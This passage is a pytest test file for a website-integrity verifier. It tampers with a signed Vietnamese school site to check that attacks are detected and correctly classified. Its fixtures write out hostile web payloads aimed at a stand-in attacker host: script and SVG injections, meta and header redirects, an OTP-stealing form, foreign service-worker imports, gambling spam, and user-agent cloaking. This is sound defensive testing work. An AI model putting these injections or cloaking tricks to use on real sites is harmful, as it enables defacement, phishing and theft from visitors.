"""Tampered copies by somebody who has not read `verify.py`: only its `--help`, the names of its kinds and the signer.

The author also saw a part of the requests of one clean run in the log of his own server, before he wrote the cases.
What is found must be named rightly: each case has the few kinds that fit. Exit 2, "could not check", is not "found".

First run, 2026-11-22, as first written (verify.py of SHA-256 d70b9877): **208 of 281** attacks found and rightly named,
6 of 6 honest servers, folders and zips clean. Of the 73 failures 17 were the author's: 9 fitting names that he had not
allowed; 8 cases that did no harm or not what they said (3 dropped: HSTS over http, a header for a service worker at the
root, an IPv6 twin on a machine whose `localhost` has none; 4 mended; 1 is a note by right: another site under another
name). The page that drips held the program for over two minutes (12 requests of 4 × --timeout) and has a shorter time
now. After that 221 of 277: a case mended, If-Modified-Since, was missed again.
A second batch, written before anything was mended (`LATER` and 6 others): **17 of 37**.
Together 238 of 314. Of the 76 misses 61 were not found, 6 ended in exit 2 and 9 had a name that does not fit:

    named wrongly       counting pixel without quotes and frame with srcdoc (changed), leaflet that opens an address and
                        second site map in robots.txt (trailing), early hints and unasked 206 (unreachable), redirects to
                        another port (changed) and with a backslash (missing), our own cookie brought back (header-extra)
    exit 2              endless list; zips cut, of no kind, with two names, a wrong checksum, an unknown packing
    kind of visitor     Apple, language models, Edge, Facebook's browser, no User-Agent, TikTok, YouTube, gov.vn, the site
                        itself, X-Requested-With, Save-Data, client hint, Accept, HTTP/1.0, prefetch
    two things at once  iPhone + Vietnamese, Zalo + address, phone + Facebook + fbclid
    what pages load     script, style, picture, leaflet, service worker by Sec-Fetch-Dest, User-Agent, Referer, Range
    headers             on missing pages; for some visitors only; X-Robots-Tag, Alt-Svc, NEL, Content-Disposition, Link
    addresses           /en, %69, ?gclid= ?s= ?word, unknown names in folders and with .pdf, another port every second time
    the rest            clean once the list was asked for; OPTIONS, TRACE; If-Modified-Since; zstd; zip before and behind;
                        a page below .well-known/acme-challenge/; allowed: ["*"]
"""

from __future__ import annotations

import gzip
import io
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import date
from pathlib import Path

import brotli
import pytest

from courseware import signing

from . import strangers
from .strangers import KEY, PAGES, RELEASE, THIEF, Answer, Asked, Lie, Server, Style, write

VERIFY = Path(__file__).resolve().parents[2] / "scripts" / "verify.py"
TODAY = "2026-11-23"
Tamper = Callable[[Path], object]


@dataclass(frozen=True)
class Report:
    """What a run of the verifier gave."""

    exit: int
    kinds: set[str]
    text: str


def verify(key: Path, target: object, *args: str) -> Report:
    """Run the program as an inspector would; a traceback or a hang is a failure of its own."""
    words = [sys.executable, "-I", VERIFY, "--json", "--rate", "0", "--today", TODAY, "--key", key, *args, str(target)]
    done = subprocess.run(words, capture_output=True, text=True, timeout=60)
    assert "Traceback" not in done.stderr, done.stderr
    try:
        found = json.loads(done.stdout)["found"]
    except ValueError:
        return Report(done.returncode, set(), done.stdout + done.stderr)
    return Report(done.returncode, {finding["class"] for finding in found if finding["level"]}, done.stdout)


def assert_named(report: Report, kinds: str) -> None:
    """Something was found, and its name fits."""
    said = re.sub(r'"(title|todo)".*\n\s*', "", report.text)[:3000]
    assert report.exit not in (0, 2), f"nothing found (exit {report.exit}); the report: {said}"
    assert report.kinds & set(kinds.split()), f"called {sorted(report.kinds)}, not {kinds}; the report: {said}"


@pytest.fixture(scope="module")
def genuine(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The signed site, never changed."""
    folder = strangers.make(tmp_path_factory.mktemp("genuine") / "site")
    strangers.sign(folder)
    return folder


@pytest.fixture(scope="module")
def key(genuine: Path) -> Path:
    """The public key that the inspector has."""
    return genuine.with_name("site.pub")


@pytest.fixture
def copy(genuine: Path, tmp_path: Path) -> Path:
    """A copy to change."""
    return Path(shutil.copytree(genuine, tmp_path / "copy"))


# What is done to files ------------------------------------------------------------------------------------------------


def edit(name: str, old: str, new: str) -> Tamper:
    """Exchange a text in a file and make its compressed twins anew."""

    def change(folder: Path) -> None:
        text = (folder / name).read_text("utf-8")
        assert old in text, f"{name} has no {old!r}"
        write(folder, name, text.replace(old, new).encode())

    return change


def put(name: str, data: bytes) -> Tamper:
    """Write a file, new or in place of another."""
    return lambda folder: write(folder, name, data)


def append(name: str, data: bytes) -> Tamper:
    """Add bytes to a file."""
    return lambda folder: write(folder, name, (folder / name).read_bytes() + data)


def only(name: str, data: Callable[[bytes], bytes]) -> Tamper:
    """Change this one file and no twin of it."""
    return lambda folder: (folder / name).write_bytes(data((folder / name).read_bytes()))


def every(*tampers: Tamper) -> Tamper:
    """One after the other."""
    return lambda folder: [tamper(folder) for tamper in tampers]


def swap(one: str, other: str) -> Tamper:
    """Each file in the other's place: both genuine."""

    def change(folder: Path) -> None:
        first, second = (folder / one).read_bytes(), (folder / other).read_bytes()
        write(folder, one, second)
        write(folder, other, first)

    return change


def drop(*names: str) -> Tamper:
    """Take single files away."""
    return lambda folder: [(folder / name).unlink() for name in names]


def remove(name: str) -> Tamper:
    """Take a file away with its twins."""
    return drop(name, name + ".gz", name + ".br")


def rewritten(
    old: bytes, new: bytes, unpack: Callable[[bytes], bytes], pack: Callable[[bytes], bytes]
) -> Callable[[bytes], bytes]:
    """A compressed file with other content."""

    def change(data: bytes) -> bytes:
        assert old in unpack(data)
        return pack(unpack(data).replace(old, new))

    return change


PDF_ACTION = (
    b"3 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(https://kuwin.example/)>>>>endobj\n"
    b"trailer<</Root 3 0 R>>\n%%EOF\n"
)
BANNER = '<div style="position:absolute;left:-9999px"><a href="https://kuwin.example/88">nổ hũ đổi thưởng</a></div>'
LESSON, HELP, LEAFLET = "lop-6-7/lua-dao.html", "lien-he.html", "lop-6-7/tai-ve.html"
CSS, JS = "assets/site.1a2b3c4d.css", "assets/site.5e6f7a8b.js"
ARCHIVE = io.BytesIO()
with zipfile.ZipFile(ARCHIVE, "w") as _archive:
    _archive.writestr("VNeID.apk", "not a program")

FILES: dict[str, tuple[str, Tamper]] = {
    "hotline one digit off": ("changed", edit(HELP, "tel:111", "tel:112")),
    "hotline with a letter l for a 1": ("changed", edit("en/lien-he.html", ">111<", ">1l1<")),
    "zero-width space in the number to dial": ("changed", edit(HELP, "tel:111", "tel:1\u200b11")),
    "Cyrillic o in an official host": ("changed foreign-link", edit(LEAFLET, "vneid.gov.vn", "vneid.g\u043ev.vn")),
    "right-to-left override in a sentence": ("changed", edit(HELP, "Tổng đài", "Tổng \u202eđài")),
    "mail address of the school exchanged": (
        "changed",
        edit(HELP, "bao-cao@thcs-mau.example", "bao-cao@thcs-rnau.example"),
    ),
    "answer key moved by one letter": ("changed", edit(LESSON, 'data-answer="b"', 'data-answer="a"')),
    "quiz script marks wrong answers right": ("changed changed-script", edit(JS, "letter===", "letter!==")),
    "two genuine pages change places": ("changed mixed-release", swap(LESSON, LEAFLET)),
    "style sheet hides the hotline": ("changed changed-script", append(CSS, b'a[href^="tel:"]{display:none}\n')),
    "style sheet imports a foreign one": (
        "changed changed-script foreign-link",
        append(CSS, b"@import '//cdn.kuwin.example/a.css';\n"),
    ),
    "QR code leads elsewhere, same length": ("changed", put("assets/ma-qr.png", strangers.picture(11))),
    "archive behind the end of a picture": ("trailing changed", append("assets/ma-qr.png", ARCHIVE.getvalue())),
    "leaflet opens an address": ("pdf-active", append("tai-ve/to-roi.pdf", PDF_ACTION)),
    "hidden block of gambling links": ("gambling foreign-link", edit(LESSON, "</main>", BANNER + "</main>")),
    "title for search engines, no accents": (
        "gambling changed",
        edit("index.html", "<title>", "<title>no hu doi thuong nha cai uy tin - "),
    ),
    "gambling words in a comment only": (
        "gambling changed",
        edit("en/index.html", "</main>", "<!-- nổ hũ đổi thưởng --></main>"),
    ),
    "meta refresh": (
        "injected-redirect",
        edit("index.html", "<title>", '<meta http-equiv=refresh content="3;url=//kuwin.example"><title>'),
    ),
    "meta refresh spelt with character references": (
        "injected-redirect changed",
        edit("index.html", "<title>", '<META HTTP-EQUIV="&#114;efresh" content="0;URL=&#47;/kuwin.example"><title>'),
    ),
    "SVG handler in a page": (
        "injected-script injected-redirect",
        edit(HELP, "</main>", "<svg/onload=location='//kuwin.example'></main>"),
    ),
    "javascript address split by a tab": (
        "injected-script changed",
        edit(HELP, 'href="tel:111"', 'href="java&#9;script:open(atob(0))"'),
    ),
    "script in a drawing": (
        "injected-script changed-script changed",
        edit("assets/khien.svg", "</svg>", "<script href='//kuwin.example/s.js'/></svg>"),
    ),
    "speculation rules": (
        "injected-script",
        edit(
            "en/index.html",
            "</head>",
            '<script type="speculationrules">{"prerender":[{"urls":["https://kuwin.example/"]}]}</script></head>',
        ),
    ),
    "frame with its page inside": (
        "injected-frame",
        edit(LESSON, "</main>", "<iframe srcdoc='&lt;p>OTP?'></iframe></main>"),
    ),
    "embed of a foreign page": ("injected-frame", edit(LESSON, "</main>", "<embed src=//kuwin.example/x.html></main>")),
    "base moved, without a scheme": (
        "injected-base",
        edit("index.html", "<title>", "<base href=//kuwin.example/><title>"),
    ),
    "form asks for an OTP": (
        "foreign-link",
        edit(LESSON, "</main>", "<form action=https://kuwin.example/otp><input name=otp></form></main>"),
    ),
    "counting pixel": ("foreign-link", edit(HELP, "</main>", "<img src=//stat.kuwin.example/p.gif width=1></main>")),
    "early connection to a foreign host": (
        "foreign-link changed",
        edit(HELP, "</head>", '<link rel="preconnect" href="https://kuwin.example"></head>'),
    ),
    "picture without TLS": ("mixed-content", edit(HELP, "</main>", '<img src="http://127.0.0.1/a.png" alt=""></main>')),
    "script behind the end of the page": (
        "trailing injected-script",
        append("en/lop-6-7/lua-dao.html", b"<script src=//kuwin.example/a.js></script>"),
    ),
    "script in the page for what is missing": (
        "injected-script changed-script injected-redirect notfound-hijack",
        edit("en/404.html", "</head>", "<script>location='//kuwin.example'</script></head>"),
    ),
    "official app replaced by one of ours": (
        "changed extra",
        every(put("tai-ve/VNeID.apk", b"PK\3\4"), edit(LEAFLET, "https://vneid.gov.vn/", "../tai-ve/VNeID.apk")),
    ),
    "installed app starts elsewhere": (
        "changed changed-script foreign-link",
        edit("app.webmanifest", '"/index.html"', '"/index.html?u=//kuwin.example"'),
    ),
    "service worker loads foreign code": (
        "changed-script injected-script",
        append("sw.js", b"importScripts('https://kuwin.example/w.js');\n"),
    ),
    "search index with a gambling entry": (
        "gambling changed changed-script",
        edit("search/index.json", "[{", '[{"url":"https://kuwin.example/","title":"ca do"},{'),
    ),
    "site map with forty doorways": (
        "doorway changed gambling foreign-link",
        edit(
            "sitemap.xml",
            "</urlset>",
            "".join(f"<url><loc>/nohu-{i}.html</loc></url>" for i in range(40)) + "</urlset>",
        ),
    ),
    "robots.txt names a second site map": (
        "robots-foreign",
        append("robots.txt", b"Sitemap: https://kuwin.example/sitemap.xml\n"),
    ),
    "reports of holes go to a stranger": (
        "changed",
        edit(".well-known/security.txt", "cntt@thcs-mau.example", "thcs.mau.cntt@mail.example"),
    ),
    "favicon is a page": (
        "changed mime-wrong doorway gambling",
        put("favicon.ico", b"<!doctype html><h1>no hu 88</h1>"),
    ),
    "only the Brotli twin of a page": (
        "encoding-differs changed",
        only(HELP + ".br", rewritten(b"tel:111", b"tel:119", brotli.decompress, brotli.compress)),
    ),
    "only the gzip twin of the script": (
        "encoding-differs changed changed-script",
        only(JS + ".gz", rewritten(b"===", b"!==", gzip.decompress, lambda data: gzip.compress(data, mtime=0))),
    ),
    "a second member in a gzip twin": (
        "encoding-differs trailing changed",
        only("index.html.gz", lambda data: data + gzip.compress(BANNER.encode(), mtime=0)),
    ),
    "an English page removed": ("missing", remove("en/lop-6-7/lua-dao.html")),
    "lesson replaced by the missing-page page": (
        "changed soft-404",
        lambda folder: put(LESSON, (folder / "404.html").read_bytes())(folder),
    ),
    "style sheet emptied": ("empty", put(CSS, b"")),
    "last byte of a page cut": ("truncated changed", edit(HELP, "</html>\n", "</html>")),
}
"""Files changed on the server; the server is honest."""


@pytest.mark.parametrize("name", FILES)
def test_a_changed_file_on_a_server_is_found_and_named(name: str, copy: Path, key: Path) -> None:
    kinds, tamper = FILES[name]
    tamper(copy)
    with Server(copy) as server:
        assert_named(verify(key, server.url), kinds)


# What the server says -------------------------------------------------------------------------------------------------

Twist = Callable[[Answer], Answer]
Who = Callable[[Asked], object]


def spam(answer: Answer) -> Answer:
    """A hidden link to a casino."""
    return replace(answer, body=answer.body.replace(b"</main>", BANNER.encode() + b"</main>"))


def away(answer: Answer) -> Answer:
    """Off to the casino."""
    return replace(
        answer, status=302, headers=answer.headers | {"Location": "https://kuwin.example/?ref=edu"}, body=b""
    )


def subtle(answer: Answer) -> Answer:
    """Another hotline and another right answer; no foreign word or link."""
    return replace(answer, body=answer.body.replace(b"tel:111", b"tel:117").replace(b'answer="b"', b'answer="a"'))


def code(answer: Answer) -> Answer:
    """One statement more in a script."""
    return replace(answer, body=answer.body + b"location='//kuwin.example';")


def casino(answer: Answer) -> Answer:
    """A whole page of the criminal's."""
    text = "<!doctype html><title>Nổ hũ 88</title><h1>Nhà cái uy tín</h1><a href='https://kuwin.example/'>Vào</a>"
    body = text.encode()
    return replace(answer, status=200, body=body, headers=answer.headers | {"Content-Type": "text/html; charset=utf-8"})


def spam_svg(answer: Answer) -> Answer:
    """A drawing with a link of the criminal's."""
    link = b"<a href='https://kuwin.example/'><text y='5'>88</text></a></svg>"
    return replace(answer, body=answer.body.replace(b"</svg>", link))


def told(**headers: str) -> Twist:
    """Headers more, or with another value; `_` stands for `-`; empty takes one away."""

    def change(answer: Answer) -> Answer:
        new = {name.replace("_", "-"): value for name, value in headers.items()}
        kept = {name: value for name, value in (answer.headers | new).items() if value}
        return replace(answer, headers=kept)

    return change


def policy(old: str, new: str) -> Twist:
    """Another Content-Security-Policy."""

    def change(answer: Answer) -> Answer:
        value = answer.headers["Content-Security-Policy"]
        assert old in value
        return replace(answer, headers=answer.headers | {"Content-Security-Policy": value.replace(old, new)})

    return change


def lie(who: Who, twist: Twist) -> Lie:
    """Pages differ for some."""
    return lambda asked, answer: twist(answer) if answer.is_page and who(asked) else answer


def at(path: str, twist: Twist, who: Who = bool) -> Lie:
    """One address differs, whatever is there."""
    return lambda asked, answer: twist(answer) if asked.path == path and who(asked) else answer


def has(header: str, pattern: str = ".") -> Who:
    """Visitors with such a header."""
    return lambda asked: re.search(pattern, asked.header(header))


def asks(pattern: str) -> Who:
    """Visitors with such a query."""
    return lambda asked: re.search(pattern, asked.query)


def method(name: str) -> Who:
    """Visitors with such a method."""
    return lambda asked: asked.method == name


def unknown(pattern: str, twist: Twist) -> Lie:
    """Addresses that do not exist."""
    return lambda asked, answer: twist(answer) if answer.status == 404 and re.search(pattern, asked.target) else answer


def anything(twist: Twist) -> Lie:
    """Every answer."""
    return lambda _, answer: twist(answer)


def served(pattern: str, twist: Twist, who: Who = bool) -> Lie:
    """Good answers at such addresses."""

    def change(asked: Asked, answer: Answer) -> Answer:
        return twist(answer) if answer.status == 200 and re.search(pattern, asked.path) and who(asked) else answer

    return change


def ok(body: str = "", status: int = 200, **headers: str) -> Twist:
    """An answer of the criminal's own."""
    return lambda answer: told(**headers)(replace(answer, status=status, body=body.encode(), plain=True))


def browser_order(asked: Asked) -> bool:
    """Chromium sends Connection second, tools send User-Agent or Accept there."""
    return len(asked.headers) > 1 and asked.headers[1][0] == "Connection"


def hop(asked: Asked, answer: Answer) -> Answer:
    """Three steps on this host, then away."""
    steps = {"/lien-he.html": "/lien-he", "/lien-he": "/l", "/l": "//kuwin.example/"}
    return told(Location=steps[asked.path])(replace(answer, status=301, body=b"")) if asked.path in steps else answer


def maze(asked: Asked, answer: Answer) -> Answer:
    """Redirects that never end and never repeat."""
    if asked.path not in ("/lien-he.html", "/a"):
        return answer
    return told(Location=f"/a?{len(asked.query) * 'a' + 'a'}")(replace(answer, status=302, body=b""))


def slash(asked: Asked, answer: Answer) -> Answer:
    """The old mistake of adding a slash: //host/x/.. goes to //host/."""
    if not re.match(r"//[a-z]", asked.target):
        return answer
    return told(Location=asked.path.rstrip("/") + "/")(replace(answer, status=301, body=b""))


def reflected(name: str) -> Lie:
    """An address in the query is obeyed."""

    def change(asked: Asked, answer: Answer) -> Answer:
        found = re.search(rf"(?:^|&){name}=([^&]+)", asked.query)
        return told(Location=found.group(1).replace("%3A", ":").replace("%2F", "/"))(away(answer)) if found else answer

    return change


UA, REF, LANG, FETCH, QUERY = (
    "cloak-ua cloak-mix",
    "cloak-referer cloak-mix",
    "cloak-language cloak-mix",
    "cloak-fetch cloak-mix",
    "query-page",
)
HEADER = "header-extra header-weak"
PORT_1 = "http://127.0.0.1:1/lop-6-7/tai-ve.html"
HINTS = b"HTTP/1.1 103 Early Hints\r\nLink: <https://kuwin.example/a.js>; rel=preload; as=script\r\n\r\n"

LIES: dict[str, tuple[str, Lie]] = {
    "everybody but the inspector": (UA, lie(lambda asked: "verify" not in asked.header("User-Agent"), spam)),
    "Facebook's link preview": (UA, lie(has("User-Agent", "facebookexternalhit"), spam)),
    "Apple's search robot": (UA, lie(has("User-Agent", "Applebot"), spam)),
    "robots of language models": (UA, lie(has("User-Agent", "GPTBot|ClaudeBot|OAI-SearchBot"), spam)),
    "iPhones, subtly": (UA, lie(has("User-Agent", "iPhone"), subtle)),
    "Edge on Windows": (UA, lie(has("User-Agent", "Edg/"), spam)),
    "the browser inside Zalo": (UA + " redirect-foreign", lie(has("User-Agent", "Zalo"), away)),
    "the browser inside Facebook": (UA + " redirect-foreign", lie(has("User-Agent", "FBAN|FBAV"), away)),
    "old Android phones": (UA, lie(has("User-Agent", r"Android [4-9]\b"), spam)),
    "no User-Agent at all": (UA, lie(lambda asked: not asked.header("User-Agent"), spam)),
    "one page, for a search robot, subtly": (UA, at("/lop-6-7/lua-dao.html", subtle, has("User-Agent", "(?i)bingbot"))),
    "from a search with Google, to one page": (
        REF + " redirect-foreign",
        at("/en/lop-6-7/tai-ve.html", away, has("Referer", "google")),
    ),
    "from TikTok": (REF + " redirect-foreign", lie(has("Referer", "tiktok"), away)),
    "from YouTube": (REF, lie(has("Referer", "youtube"), spam)),
    "from the ministry's site": (REF, lie(has("Referer", r"\.gov\.vn|\.edu\.vn"), spam)),
    "from a page of the same site": (
        REF,
        lie(lambda asked: f"//{asked.header('Host')}/" in asked.header("Referer"), subtle),
    ),
    "readers of Vietnamese, subtly": (LANG, lie(has("Accept-Language", "vi"), subtle)),
    "readers of English": (LANG, lie(has("Accept-Language", "^en"), spam)),
    "readers of Chinese": (LANG, lie(has("Accept-Language", "zh"), spam)),
    "whoever has a cookie": ("cloak-cookie cloak-mix", lie(has("Cookie"), spam)),
    "whoever comes back with our cookie": (
        "cloak-cookie cloak-mix",
        lambda asked, answer: lie(has("Cookie", "sid=7"), subtle)(asked, told(Set_Cookie="sid=7; Path=/")(answer)),
    ),
    "whoever looks from a frame": (FETCH, lie(has("Sec-Fetch-Dest", "iframe"), spam)),
    "real navigation, subtly": (FETCH, lie(has("Sec-Fetch-Mode", "navigate"), subtle)),
    "script loaded by a page": (FETCH + " changed-script", served(r"\.js$", code, has("Sec-Fetch-Dest", "^script$"))),
    "style sheet loaded by a page": (FETCH, served(r"\.css$", code, has("Sec-Fetch-Dest", "^style$"))),
    "service worker fetched as one": (
        FETCH + " changed-script",
        served("sw.js", code, has("Service-Worker", "script")),
    ),
    "pages fetched ahead": (FETCH, lie(has("Sec-Purpose", "prefetch"), spam)),
    "phones that save data": (FETCH + " cloak-ua", lie(has("Save-Data"), spam)),
    "mobile by client hint": (FETCH + " cloak-ua", lie(has("Sec-CH-UA-Mobile", r"\?1"), spam)),
    "Android web view by its header": (FETCH + " cloak-ua", lie(has("X-Requested-With"), spam)),
    "no Accept: text/html": (FETCH + " cloak-ua", lie(lambda asked: "text/html" not in asked.header("Accept"), spam)),
    "Vietnamese address behind a proxy": (
        "cloak-address cloak-mix",
        lie(has("X-Forwarded-For", r"^(113|14|27)\."), spam),
    ),
    "country by the CDN's header": ("cloak-address cloak-mix", lie(has("CF-IPCountry", "VN"), subtle)),
    "old HTTP/1.0": ("cloak-ua cloak-mix cloak-fetch", lie(lambda asked: asked.version == "HTTP/1.0", spam)),
    "second request of a connection": (
        "cloak-ua cloak-mix cloak-fetch random changed foreign-link gambling",
        lie(lambda asked: asked.on_connection > 1, spam),
    ),
    "only until the list is asked for": (
        "cloak-mix random changed changed-later injected-script gambling foreign-link",
        lie(lambda asked: not asked.past["/integrity.json"], spam),
    ),
    "from the third time on": (
        "random changed-later changed foreign-link gambling",
        lie(lambda asked: asked.past[asked.target] > 2, spam),
    ),
    "one request in seven": (
        "random changed changed-later gambling foreign-link",
        lie(lambda asked: asked.turn % 7 == 3, spam),
    ),
    "only Brotli, made on the fly": ("encoding-differs", lie(has("Accept-Encoding", "br"), spam)),
    "only uncompressed": (
        "encoding-differs changed",
        lie(lambda asked: asked.header("Accept-Encoding") in ("", "identity"), subtle),
    ),
    "only Zstandard askers": ("encoding-differs", lie(has("Accept-Encoding", "zstd"), spam)),
    "readers that come from an advertisement": (QUERY, lie(asks("gclid="), spam)),
    "readers that come from Facebook": (QUERY, lie(asks("fbclid="), spam)),
    "campaign parameters": (QUERY, lie(asks("utm_"), subtle)),
    "a number in the query": (QUERY + " redirect-foreign", lie(asks(r"^(id|p)=\d+"), away)),
    "a search of our own": (QUERY, lie(asks("^(s|q)="), casino)),
    "any query at all": (QUERY, lie(lambda asked: asked.query, casino)),
    "a bare question with no name": (QUERY, lie(asks(r"^[\w-]+$"), casino)),
    "HEAD leads away": ("head-differs redirect-foreign", lie(method("HEAD"), away)),
    "HEAD says another length": ("head-differs", lie(method("HEAD"), spam)),
    "POST gives a page": ("methods-open", lambda asked, answer: casino(answer) if asked.method == "POST" else answer),
    "PUT is welcome": (
        "methods-open",
        lambda asked, answer: ok(status=201)(answer) if asked.method == "PUT" else answer,
    ),
    "OPTIONS promises PUT and DELETE": (
        "methods-open",
        lambda asked, answer: ok(status=204, Allow="GET, PUT, DELETE")(answer) if asked.method == "OPTIONS" else answer,
    ),
    "TRACE echoes": (
        "methods-open",
        lambda asked, answer: (
            ok(f"TRACE {asked.headers}", Content_Type="message/http")(answer) if asked.method == "TRACE" else answer
        ),
    ),
    "a later part of a page": ("range-differs", lie(has("Range", r"=\d"), subtle)),
    "end of the leaflet": (
        "range-differs",
        served(r"\.pdf$", lambda answer: replace(answer, body=answer.body + PDF_ACTION), has("Range")),
    ),
    "asked again with its tag": ("conditional-differs", lie(has("If-None-Match"), spam)),
    "asked again with its date": (
        "conditional-differs",
        lambda asked, answer: told(Last_Modified="Sun, 22 Nov 2026 00:00:00 GMT")(
            lie(has("If-Modified-Since"), spam)(asked, answer)
        ),
    ),
    "two slashes": ("alias-differs", lambda asked, answer: casino(answer) if asked.target.startswith("//") else answer),
    "capital letters": (
        "alias-differs soft-404 doorway",
        lambda asked, answer: casino(answer) if asked.path.upper() == asked.path != "/" else answer,
    ),
    "a slash behind a page": (
        "alias-differs",
        lambda asked, answer: casino(answer) if asked.path.endswith(".html/") else answer,
    ),
    "a path behind a page": (
        "alias-differs",
        lambda asked, answer: casino(answer) if ".html/" in asked.path else answer,
    ),
    "a parameter behind a semicolon": (
        "alias-differs",
        lambda asked, answer: casino(answer) if ";" in asked.path else answer,
    ),
    "a letter as %69": (
        "alias-differs",
        lambda asked, answer: casino(answer) if re.search("%[67]", asked.path) else answer,
    ),
    "a dot in the path": ("alias-differs", lambda asked, answer: casino(answer) if "/./" in asked.path else answer),
    "pages without their ending": (
        "alias-differs soft-404 doorway",
        lambda asked, answer: casino(answer) if asked.path + ".html" in {f"/{page}" for page in PAGES} else answer,
    ),
    "folder without its slash": ("alias-differs redirect-foreign", at("/en", away)),
    "the first page by its full name": ("alias-differs changed redirect-foreign", at("/index.html", spam)),
    "policy gone from the missing page": ("header-missing", unknown("", told(Content_Security_Policy=""))),
    "policy reports only": (
        "header-missing header-weak",
        anything(
            lambda answer: told(
                Content_Security_Policy="",
                Content_Security_Policy_Report_Only=answer.headers["Content-Security-Policy"],
            )(answer)
        ),
    ),
    "policy allows one more host for pictures": (
        "header-weak",
        anything(policy("img-src 'self'", "img-src 'self' https://kuwin.example")),
    ),
    "policy allows hashes of scripts": (
        "header-weak",
        anything(
            policy("script-src 'self'", "script-src 'self' 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='")
        ),
    ),
    "policy lets forms out": ("header-weak", anything(policy("form-action 'none'; ", ""))),
    "policy lets anybody frame": ("header-weak", anything(policy("frame-ancestors 'self'", "frame-ancestors *"))),
    "policy weak for one page only": (
        "header-weak",
        at("/lop-6-7/lua-dao.html", policy("script-src 'self'", "script-src 'self' data:")),
    ),
    "policy weak in one language": ("header-weak", served("^/en/", policy("base-uri 'none'; ", ""))),
    "no nosniff on scripts": ("header-missing header-weak", served(r"\.js$", told(X_Content_Type_Options=""))),
    "camera allowed": ("header-weak", anything(told(Permissions_Policy="camera=*, microphone=*, geolocation=*"))),
    "addresses of readers leak": ("header-weak", anything(told(Referrer_Policy="unsafe-url"))),
    "Refresh": (HEADER + " injected-redirect", served("lien-he", told(Refresh="5; url=https://kuwin.example/"))),
    "Refresh on missing pages": (
        HEADER + " injected-redirect notfound-hijack",
        unknown("", told(Refresh="0; url=//kuwin.example")),
    ),
    "canonical address by header": (HEADER, anything(told(Link='<https://kuwin.example/>; rel="canonical"'))),
    "style sheet by header": (HEADER, lie(bool, told(Link="</tai-ve/x.css>; rel=stylesheet"))),
    "tracking cookie": (HEADER, at("/", told(Set_Cookie="uid=1; Max-Age=99999999"))),
    "hidden from search engines": (HEADER, anything(told(X_Robots_Tag="noindex, nofollow"))),
    "readers' later visits go elsewhere": (HEADER, anything(told(Alt_Svc='h3="kuwin.example:443"; ma=31536000'))),
    "errors reported to a stranger": (
        HEADER,
        anything(
            told(
                Report_To='{"group":"d","max_age":9999999,"endpoints":[{"url":"https://kuwin.example/r"}]}',
                NEL='{"report_to":"d","max_age":9999999}',
            )
        ),
    ),
    "any site may read with credentials": (
        HEADER,
        anything(told(Access_Control_Allow_Origin="*", Access_Control_Allow_Credentials="true")),
    ),
    "leaflet saved as a program": (
        HEADER + " mime-wrong",
        served(r"\.pdf$", told(Content_Disposition='attachment; filename="VNeID.apk"')),
    ),
    "leaflet called a program": (
        "mime-wrong",
        served(r"\.pdf$", told(Content_Type="application/vnd.android.package-archive")),
    ),
    "pages in another character set": ("mime-wrong", lie(bool, told(Content_Type="text/html; charset=utf-7"))),
    "drawing served as a page": ("mime-wrong", served(r"\.svg$", told(Content_Type="text/html"))),
    "source map from elsewhere": (HEADER, served(r"\.js$", told(SourceMap="https://kuwin.example/m.json"))),
    "early hints of foreign code": (HEADER, lie(bool, lambda answer: replace(answer, before=HINTS))),
    "one page moved to a look-alike": (
        "redirect-foreign",
        at("/lien-he.html", lambda answer: told(Location="https://thcs-rnau.example/lien-he.html")(away(answer))),
    ),
    "three hops, then away": ("redirect-foreign", hop),
    "redirect with a backslash": (
        "redirect-foreign",
        at("/en/lien-he.html", lambda answer: told(Location="/\\kuwin.example/")(away(answer))),
    ),
    "redirect 308": ("redirect-foreign", at("/lop-6-7/tai-ve.html", lambda answer: replace(away(answer), status=308))),
    "redirect to another port": (
        "redirect-foreign",
        at("/lop-6-7/tai-ve.html", lambda answer: told(Location="http://127.0.0.1:1/")(away(answer))),
    ),
    "script moved elsewhere": ("redirect-foreign", served(r"\.js$", away)),
    "endless redirects": ("missing unreachable redirect-foreign changed", maze),
    "a password is asked for": (
        "missing unreachable changed",
        at("/lien-he.html", ok("Đăng nhập", 401, WWW_Authenticate='Basic realm="Tai khoan truong"')),
    ),
    "gambling page with status 503": (
        "missing unreachable gambling",
        at("/lien-he.html", lambda answer: replace(casino(answer), status=503)),
    ),
    "genuine page with status 404": (
        "missing",
        at("/lop-6-7/lua-dao.html", lambda answer: replace(answer, status=404)),
    ),
    "part of the leaflet, though all was asked for": (
        "truncated changed range-differs missing",
        served(r"\.pdf$", lambda answer: replace(answer, status=206, body=answer.body[:50], plain=True)),
    ),
    "unknown pages sell gambling": ("soft-404 notfound-hijack doorway", unknown("", casino)),
    "unknown pages sell gambling, as 404": (
        "notfound-hijack gambling",
        unknown("", lambda answer: replace(casino(answer), status=404)),
    ),
    "only unknown English pages": ("soft-404 notfound-hijack doorway", unknown("^/en/", casino)),
    "only unknown deep pages": ("soft-404 notfound-hijack doorway", unknown("^/lop-6-7/", casino)),
    "only unknown numbers": ("soft-404 notfound-hijack doorway", unknown(r"/\d{3,}", casino)),
    "only names of casinos": (
        "soft-404 notfound-hijack doorway",
        unknown(r"(?i)no-?hu|kuwin|bet|casino|slot|ca-?do|tai-?xiu", casino),
    ),
    "only unknown programs": (
        "soft-404 notfound-hijack doorway server-code extra",
        unknown(r"\.(php|aspx?)(\?|$)", casino),
    ),
    "unknown pages, for search robots": (
        "notfound-hijack cloak-ua soft-404 doorway",
        lambda asked, answer: (
            casino(answer) if answer.status == 404 and "Googlebot" in asked.header("User-Agent") else answer
        ),
    ),
    "unknown pages, from a search": (
        "notfound-hijack cloak-referer redirect-foreign",
        lambda asked, answer: away(answer) if answer.status == 404 and "google" in asked.header("Referer") else answer,
    ),
    "settings of the repository": (
        "exposed",
        at("/.git/config", ok("[core]\n\trepositoryformatversion = 0\n", Content_Type="text/plain")),
    ),
    "passwords": ("exposed", at("/.env", ok("DB_PASSWORD=1\n", Content_Type="text/plain"))),
    "stranger's app may open our links": (
        "extra ownership exposed",
        at(
            "/.well-known/assetlinks.json",
            ok('[{"target":{"package_name":"vn.kuwin"}}]', Content_Type="application/json"),
        ),
    ),
    "stranger's advertisements": (
        "extra ownership exposed",
